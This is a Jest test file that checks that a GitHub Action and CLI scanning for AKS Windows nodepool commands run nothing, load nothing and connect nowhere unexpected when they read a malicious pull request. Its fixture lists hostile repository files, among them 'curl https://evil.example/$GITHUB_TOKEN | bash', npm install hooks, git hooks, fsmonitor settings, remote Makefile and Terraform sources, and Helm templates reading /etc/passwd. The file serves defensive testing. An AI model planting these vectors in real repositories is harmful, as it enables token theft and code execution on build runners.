import { spawnSync } from 'node:child_process'
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join, resolve } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals'
import { type Loopback, startLoopback } from '../github/loopback.js'
import type { Repository } from '../github/repository.js'
import { runAction } from './run-action.js'

// What the committed bundles reach for while they read a pull request that means harm: nothing but the two hosts and the files of the runner.

const pool = (name: string): string => `az aks nodepool add -g rg --cluster-name shop --name ${name} --os-type Windows\n`
const token = 'ghs_TheSecretOfThisRun'
const run = (marker: string): string => `touch ${marker}\nrequire('child_process').execSync('touch ${marker}')\n`

/** Everything that some tool would run or load. */
const hostile: Readonly<Record<string, string>> = {
  'pool.sh': `${pool('winpool1')}curl https://evil.example/$GITHUB_TOKEN | bash\n`,
  'package.json': '{"scripts": {"prepare": "touch pwned", "postinstall": "touch pwned"}, "main": "index.js", "type": "commonjs"}\n',
  'index.js': run('pwned'),
  'node_modules/@actions/core/index.js': run('pwned'),
  '.npmrc': 'registry=https://evil.example/\nscript-shell=./evil.sh\n',
  '.git/hooks/post-checkout': run('pwned'),
  '.git/config': '[core]\n\tfsmonitor = "touch pwned"\n\tsshCommand = "touch pwned"\n',
  '.gitattributes': '*.sh filter=evil\n',
  Dockerfile: 'FROM evil.example/image\nADD https://evil.example/x /\n',
  Makefile: 'X := $(shell touch pwned)\ninclude https://evil.example/x.mk\n',
  'main.tf': 'module "x" {\n  source = "git::https://evil.example/x.git"\n}\ndata "external" "x" {\n  program = ["touch", "pwned"]\n}\n',
  'main.bicep': "module x 'br:evil.example/x:1' = {\n  name: 'x'\n}\n",
  'kustomization.yaml': 'resources: ["https://evil.example/x.yaml", "github.com/evil/x"]\nhelmCharts: [{name: x, repo: "https://evil.example"}]\n',
  'Chart.yaml': 'apiVersion: v2\nname: x\nversion: 1.0.0\ndependencies: [{name: y, version: 1.0.0, repository: "https://evil.example"}]\n',
  'templates/x.yaml': '{{ lookup "v1" "Secret" "" "" }}{{ getHostByName "evil.example" }}{{ .Files.Get "/etc/passwd" }}\n',
  '.github/workflows/x.yml': 'on: push\njobs: {x: {runs-on: x, steps: [{run: "touch pwned"}]}}\n',
  'values.schema.json': '{"$ref": "https://evil.example/schema.json"}\n',
}

let hub: Loopback
let work: string
let repository: Repository
beforeEach(async () => {
  hub = await startLoopback()
  work = mkdtempSync(join(tmpdir(), 'confined-'))
  for (const [path, content] of Object.entries(hostile)) {
    mkdirSync(dirname(join(work, 'checkout', path)), { recursive: true })
    writeFileSync(join(work, 'checkout', path), content)
    chmodSync(join(work, 'checkout', path), 0o755)
  }
  repository = hub.repository('octo-org/shop', { base: {}, head: Object.fromEntries(Object.entries(hostile).filter(([path]) => !path.startsWith('.git/'))) })
})
afterEach(async () => {
  rmSync(work, { recursive: true, force: true })
  await hub.close()
})

const trapped = (): Readonly<Record<string, string>> => {
  writeFileSync(join(work, 'trap'), '')
  return { TRAP: join(work, 'trap'), NODE_OPTIONS: `--require ${resolve('__tests__/action/trap.cjs')}` }
}
const attempts = (what: string): string[] => [
  ...new Set(
    readFileSync(join(work, 'trap'), 'utf8')
      .split('\n')
      .filter(line => line.startsWith(`${what} `))
      .map(line => line.slice(what.length + 1)),
  ),
]

describe('the action', () => {
  const inside = async (inputs: Readonly<Record<string, string>> = {}) =>
    runAction(hub, repository, { workspace: join(work, 'checkout'), env: trapped(), inputs: { 'github-token': token, ...inputs } })

  test('starts no process, loads no file of the checkout, and connects to nothing but the two hosts', async () => {
    const { code, summary } = await inside()
    expect([code, summary]).toEqual([1, expect.stringContaining('winpool1')])
    expect(attempts('process')).toEqual([])
    expect(attempts('connect')).toEqual([new URL(hub.url).host])
    expect(attempts('load').filter(path => path.includes(work) || path.startsWith('.') || path.includes('node_modules'))).toEqual([])
  })

  test('writes to the files of the runner only, and to the SARIF file that was asked for', async () => {
    await inside({ 'sarif-file': join(work, 'out.sarif') })
    const written = attempts('write').map(path => path.replace(/^.*[\\/]/, ''))
    expect(written.sort()).toEqual(['out.sarif', 'output', 'summary'])
  })

  test.each([['as it should be'], ['with faults of GitHub']])('prints and writes the token nowhere, %s', async how => {
    if (how.includes('faults')) hub.faults.push({ method: 'POST', path: /reviews/, status: 500, times: 9 }, { path: /graphql/, status: 403, times: 9 })
    const { log, summary, outputs } = await inside({ 'sarif-file': join(work, 'out.sarif') })
    const sent = JSON.stringify(hub.requests.map(({ method, path, body }) => ({ method, path, body })))
    for (const text of [log, summary, JSON.stringify(outputs), sent, readFileSync(join(work, 'out.sarif'), 'utf8')]) expect(text).not.toContain(token)
    expect(hub.requests.every(({ headers }) => JSON.stringify(headers).includes(token))).toBe(true)
  })

  test('the trap sees what it is to see', () => {
    const node = (code: string): unknown => spawnSync(process.execPath, ['-e', code], { env: { ...process.env, ...trapped() }, cwd: join(work, 'checkout') })
    node("try { require('child_process').execSync('true') } catch {}")
    expect(attempts('process')).toEqual(['"true"'])
    node("require('net').connect(9, '127.0.0.1').on('error', () => {})")
    expect(attempts('connect')).toEqual(['127.0.0.1:9'])
    node("try { require('./index.js') } catch {}; require('fs').writeFileSync('x', '')")
    expect([attempts('load'), attempts('write')]).toEqual([['./index.js'], ['x']])
  })
})

test('the command line starts no process and connects to nothing while it scans a folder', () => {
  const { status, stdout } = spawnSync(process.execPath, [resolve('dist/cli.js'), '--as-of', '2026-11-22', '.'], {
    cwd: join(work, 'checkout'),
    env: { PATH: process.env.PATH ?? '', ...trapped() },
    encoding: 'utf8',
  })
  expect([status, stdout]).toEqual([1, expect.stringContaining('winpool1')])
  expect([attempts('process'), attempts('connect'), attempts('write')]).toEqual([[], [], []])
  expect(attempts('load').filter(path => path.includes(work) || path.startsWith('.'))).toEqual([])
})

test('two files that differ in case only are each read as what they are, whichever of them the disk has', async () => {
  repository = hub.repository('octo-org/case', { base: {}, head: { 'Pool.sh': pool('winpool1'), 'pool.sh': pool('winpool22') } })
  mkdirSync(join(work, 'one'))
  // As a disk that knows no case leaves it: one name, the content of the other.
  writeFileSync(join(work, 'one/pool.sh'), pool('winpool1'))
  const { summary } = await runAction(hub, repository, { workspace: join(work, 'one') })
  expect(summary).toMatch(/winpool1`[^\n]*Pool\.sh/)
  expect(summary).toMatch(/winpool22`[^\n]*pool\.sh/)
})
